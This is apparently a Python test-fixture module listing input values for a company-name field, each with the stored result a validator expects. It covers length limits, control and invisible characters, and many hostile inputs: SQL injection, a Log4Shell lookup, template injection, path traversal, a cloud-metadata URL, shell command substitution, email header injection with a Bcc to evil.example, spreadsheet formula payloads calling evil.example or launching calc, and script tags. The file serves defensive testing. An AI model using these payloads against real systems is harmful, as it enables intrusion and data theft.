"""Letters: ``(name, text, kept)``; ``kept`` is what is stored, None where the form refuses with a sentence, SAME for the text itself."""
SAME = object()

LENGTHS = (
    ("empty", "", None), ("blank", " ", None), ("no-break blank", "\u00a0", None), ("ideographic blank", "\u3000", None), ("one letter", "a", SAME),
    ("a digit", "1", SAME), ("as long as may be", "x" * 120, SAME), ("one too long", "x" * 121, None), ("ten thousand", "x" * 10_000, None),
    ("nearly all the form may hold", "x" * 190_000, None), ("composed, too long only in parts", "e\u0301" * 60, "é" * 60),
    ("sixty-one composed", "e\u0301" * 61, None), ("emoji of many parts", "👩‍👩‍👧‍👦 & Sons", SAME),
)
CONTROLS = tuple((f"control {ord(sign):#04x}", f"Harbour{sign}Mill", None) for sign in "\0\1\7\b\t\n\v\f\r\x1b\x7f\x85\x9f") + (
    ("header", "Harbour\r\nBcc: eve@evil.example", None), ("header, line feed", "Harbour\nSubject: Paid", None), ("encoded header", "Harbour%0d%0aBcc: eve@evil.example", SAME),
    ("encoded word", "=?utf-8?q?Harbour=0ABcc:_eve?=", "'=?utf-8?q?Harbour=0ABcc:_eve?="),
    ("line at the end", "Harbour\n", None), ("return at the beginning", "\rHarbour", None), ("escape", "\x1b[2J\x1b[31mHarbour", None),
)
INVISIBLE = tuple((f"sign {ord(sign):#06x}", f"Harbour{sign}Mill", None) for sign in (
    "\u00ad", "\u061c", "\u180e", "\u200b", "\u200e", "\u200f", "\u2028", "\u2029", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2060", "\u2061",
    "\u2066", "\u2067", "\u2068", "\u2069", "\ufeff", "\ufff9", "\ue000", "\U000e0041", "\U000f0000", "\ufffd"))
LETTERS = tuple((text[:20], text, SAME) for text in (
    "Müller & Söhne", "Łódź Żółw", "Ελλάς ΑΕ", "Акционерное общество", "株式会社ハーバー", "شركة الميناء", "חברת הנמל", "บริษัท ท่าเรือ", "ⅫⅣ GmbH", "𝔥𝔞𝔯𝔟𝔬𝔲𝔯", "🏭 Mill",
    "می\u200cخواهم", "O'Brien", 'The "Mill"', "Mill; DROP TABLE credit_application; --", "' OR '1'='1", "Robert'); --", "a\\b", "\\x00", "\\u202e", "%s%n%d", "%(name)s",
    "${jndi:ldap://127.0.0.1/a}", "{0.__class__}", "{name}", "{{7*7}}", "{% raw %}", "#{7*7}", "{{object.env}}", "../../etc/passwd", "..\\..\\boot.ini", "file:///etc/passwd",
    "http://127.0.0.1:8069/web", "http://169.254.169.254/latest", "NULL", "None", "undefined", "true", "0", "NaN", "Infinity", "1e308", "&amp;&lt;b&gt;", "&#60;b&#62;", "`id`", "$(id)", "|| id",
    "CON", "a,b;c", "xn--mller-kva", "Ｈａｒｂｏｕｒ", "ﬁ", "İstanbul", "ß", "a" * 119 + "é"))
FORMULAS = tuple((text[:20], text, f"'{text}") for text in (
    "=1+1", '=HYPERLINK("http://evil.example";"Paid")', "=cmd|'/c calc'!A0", "=DDE(1)", '=IMPORTXML("http://evil.example";1)', "+1+1", "+49 30 123456", "-1+1", "-2+3+cmd|'/c calc'!A0", "@SUM(A1:A9)",
    "-", "＝1+1", "＋1", "－1", "＠SUM(A1)")) + (
    ("blank and formula", "  =1+1", "'=1+1"), ("no-break blank and formula", "\u00a0=1+1", "'=1+1"), ("tab and formula", "\t=1+1", None), ("return and formula", "\r=1+1", None),
    ("zero width and formula", "\u200b=1+1", None), ("apostrophe already", "'=1+1", SAME), ("inside", "Mill =1+1", SAME))
MARKUP = tuple((text[:20], text, None) for text in (
    "<b>Mill</b>", "<script>alert(1)</script>", "<svg onload=alert(1)>", '<t t-out="7*7"/>', "<t t-call='web.layout'/>", "<!--", "]]>", "<?php", "<%= 7 %>", "a < b", "a > b"))
ALL = LENGTHS + CONTROLS + INVISIBLE + LETTERS + FORMULAS + MARKUP
